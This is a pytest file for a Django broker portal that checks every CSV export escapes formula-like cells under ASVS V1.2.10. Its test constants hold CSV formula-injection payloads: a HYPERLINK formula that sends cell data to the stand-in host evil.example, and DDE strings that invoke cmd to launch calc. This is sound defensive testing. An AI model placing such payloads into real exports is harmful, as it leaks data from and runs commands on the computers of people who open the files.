"""ASVS 5.0 V1.2.10: no CSV export lets a spreadsheet run a cell as a formula. Every export
writes through `brokerportal.csvsafe`; a text cell that starts like a formula gets a leading
`'`, numbers (and strings that are exactly a plain number) stay numbers."""

import ast
import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.db import connection
from django.urls import reverse
from django_tenants.utils import tenant_context
from guardian.shortcuts import assign_perm

from branding.statements.confirmations import confirmation_gather, confirmation_report
from branding.statements.csv_export import statement_csv
from branding.statements.gains import gains_gather, gains_report
from branding.statements.layout import PLAIN
from branding.statements.performance_report import performance_overview, performance_report
from branding.statements.report_render import csv_sections, report_csv
from branding.tests.factories import (
    END,
    START,
    TRADE_DAY,
    funded_account,
    master_with_subs,
    trade,
)
from brokerportal import csvsafe
from compliance.access_review import AccessRow, access_review_csv
from ledger.services import cash_deposit
from ledger.tests.factories import instrument_make, price_set
from tests.support.statements import BRAND, statement_make
from tests.support.tenants import login, tenant_client

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Statement")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
PLUS = '+HYPERLINK("https://evil.example")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        (MINUS, "'" + MINUS),
        (PLUS, "'" + PLUS),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("\0=1+2", "'\0=1+2"),
        ("-", "'-"),
        ("-1+2", "'-1+2"),
        ("-1e5", "'-1e5"),
        ("Zoë = Łukasiewicz", "Zoë = Łukasiewicz"),
        # numbers written by the code, and strings that are exactly a plain number, stay numbers
        (Decimal("-12.50"), Decimal("-12.50")),
        (-7, -7),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-1,234.50", "-1,234.50"),
        ("-0.25%", "-0.25%"),
        (None, ""),
        (date(2026, 10, 31), "2026-10-31"),
    ],
)
def test_v1_2_10_cell_escapes_formula_text_and_keeps_numbers(value, written):
    assert csvsafe.cell(value) == written


def test_v1_2_10_writer_quotes_per_rfc_4180_and_escapes_formulas():
    # given
    out = io.StringIO()
    # when
    csvsafe.writer(out, lineterminator="\r\n").writerow([HYPERLINK, Decimal("-12.50"), "a\r\nb"])
    # then
    assert out.getvalue() == (
        '"\'=HYPERLINK(""https://evil.example/?""&A1,""Statement"")",-12.50,"a\r\nb"\r\n'
    )


def _csv_writer_uses(tree: ast.AST) -> list[int]:
    """Lines that create a csv writer directly (`csv.writer`, `csv.DictWriter`, under any alias
    of the module, or imported from it)."""
    aliases = {"csv"}
    lines = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            aliases |= {a.asname or a.name for a in node.names if a.name == "csv"}
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            if any(a.name in ("writer", "DictWriter", "*") for a in node.names):
                lines.append(node.lineno)
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id in aliases
        ):
            lines.append(node.lineno)
    return lines


def test_v1_2_10_every_csv_export_writes_through_csvsafe():
    # given: the project's own code; tests and benchmarks write input files, not exports
    root = Path(settings.BASE_DIR)
    skipped = {".venv", ".data", "node_modules", "tests", "bench", "migrations"}
    allowed = {root / "brokerportal" / "csvsafe.py"}
    # when
    offenders = []
    for path in sorted(root.rglob("*.py")):
        parts = set(path.relative_to(root).parts[:-1])
        if parts & skipped or path.name.startswith("test_") or path in allowed:
            continue
        for line in _csv_writer_uses(ast.parse(path.read_text(encoding="utf-8"))):
            offenders.append(f"{path.relative_to(root)}:{line}")
    # then
    assert offenders == []
    assert _csv_writer_uses(ast.parse((root / "brokerportal" / "csvsafe.py").read_text()))


def test_v1_2_10_statement_csv_escapes_a_formula_in_the_account_title():
    # when
    data = statement_csv(statement_make(trades=2, holder=HYPERLINK), BRAND)
    # then
    rows = _rows(data.decode("utf-8-sig"))
    assert ["Account Information", "Data", "Name", "'" + HYPERLINK] in rows
    assert ["Account Information", "Data", "Account title", "'" + HYPERLINK] in rows
    # and negative amounts stay numbers
    assert ["Change in NAV (USD)", "Data", "Commissions", "-12.00"] in rows
    assert ["Open Positions", "Data", "TLT", "Treasury ETF", "BOND", "USD"] + [
        "50",
        "90",
        "4500",
        "4600",
        "-100",
    ] in rows


def test_v1_2_10_confirmation_csv_escapes_title_and_symbol(tenant_a):
    with tenant_context(tenant_a):
        # given
        account = funded_account(tenant_a, title=HYPERLINK)
        evil = instrument_make(DDE)
        trade(account, evil, "BUY", 10, "12.50", TRADE_DAY, key="x1", commission="1.25")
        # when
        data = report_csv(
            confirmation_report(
                confirmation_gather(tenant=tenant_a, account=account, trade_date=TRADE_DAY), PLAIN
            ),
            BRAND,
        )
    sections = csv_sections(data)
    # then
    assert ["Account title", "'" + HYPERLINK] in sections["Account Information"]["Data"]
    (execution,) = sections["Executions"]["Data"]
    assert execution[2] == "'" + DDE
    # and the cash paid stays a plain negative number
    assert (Decimal(execution[7]), Decimal(execution[8])) == (Decimal("-125"), Decimal("-1.25"))
    assert execution[7].startswith("-125")


def test_v1_2_10_gains_csv_escapes_the_instrument_description(tenant_a):
    with tenant_context(tenant_a):
        # given
        account = funded_account(tenant_a, title=PLUS)
        evil = instrument_make(description=MINUS)
        trade(account, evil, "BUY", 10, "50", date(2026, 2, 2), key="x2")
        trade(account, evil, "SELL", 10, "40", date(2026, 3, 2), key="x3")
        # when
        data = report_csv(
            gains_report(gains_gather(tenant=tenant_a, account=account, year=2026), PLAIN), BRAND
        )
    sections = csv_sections(data)
    # then
    assert ["Account title", "'" + PLUS] in sections["Account Information"]["Data"]
    (lot,) = sections["Short-term"]["Data"]
    assert lot[2] == "'" + MINUS
    assert lot[9] == "-100.00000000"  # a loss stays a number


def test_v1_2_10_performance_csv_escapes_the_sub_account_titles(tenant_a):
    with tenant_context(tenant_a):
        # given
        master, subs, benchmark = master_with_subs(
            tenant_a, moves=[(HYPERLINK, "90", "80"), ("Steady", "90", "91")]
        )
        # when
        data = report_csv(
            performance_report(
                performance_overview(
                    tenant=tenant_a,
                    master=master,
                    period_start=START,
                    period_end=END,
                    benchmark_symbol=benchmark.symbol,
                ),
                PLAIN,
            ),
            BRAND,
        )
    sections = csv_sections(data)
    # then
    titles = {row[1]: row[2] for row in sections["Returns by account"]["Data"]}
    assert titles[subs[0].number] == "'" + HYPERLINK
    assert titles[subs[1].number] == "Steady"
    pnl = {row[1]: row[5] for row in sections["Returns by account"]["Data"]}
    assert Decimal(pnl[subs[0].number]) < 0  # written as a plain number, not escaped


def test_v1_2_10_portal_csvs_escape_memo_and_symbol(tenant_a):
    with tenant_context(tenant_a):
        # given
        account = funded_account(tenant_a, title="Zoë")
        cash_deposit(
            account=account,
            amount=Decimal("250"),
            currency="USD",
            idempotency_key=f"memo-{account.pk}",
            value_date=date(2026, 10, 2),
            memo=DDE,
        )
        evil = instrument_make("=EVIL()")
        price_set(evil, TRADE_DAY, "10")
        trade(account, evil, "BUY", 3, "10", TRADE_DAY, key="x4")
        client_user = get_user_model().objects.create_user(username="zoe", email="zoe@x.test")
        assign_perm("ledger.view_account", client_user, account)
    connection.set_schema_to_public()
    client = login(tenant_client(tenant_a), client_user, tenant_a)
    # when
    activity = client.get(
        reverse("clientportal:activity"),
        {"format": "csv", "start": "2026-10-01", "end": "2026-10-31"},
    )
    positions = client.get(reverse("clientportal:positions"), {"format": "csv"})
    # then
    assert activity.status_code == positions.status_code == 200
    memo_rows = [r for r in _rows(activity.content.decode()) if r[-1] == "'" + DDE]
    assert [r[8] for r in memo_rows] == ["250.00000000"]
    (evil_row,) = [r for r in _rows(positions.content.decode()) if "EVIL" in r[1]]
    assert evil_row[1] == "'=EVIL()"
    assert evil_row[3] == "3"


def test_v1_2_10_access_review_csv_escapes_names_and_titles():
    # given
    row = AccessRow(
        username="eve",
        full_name=DDE,
        roles="Client",
        active=True,
        account_number="U1",
        account_title=HYPERLINK,
        account_type="individual",
        rights=["view"],
    )
    out = io.StringIO()
    # when
    access_review_csv([row], out)
    # then
    (data,) = _rows(out.getvalue())[1:]
    assert data[:6] == ["eve", "'" + DDE, "Client", "yes", "U1", "'" + HYPERLINK]
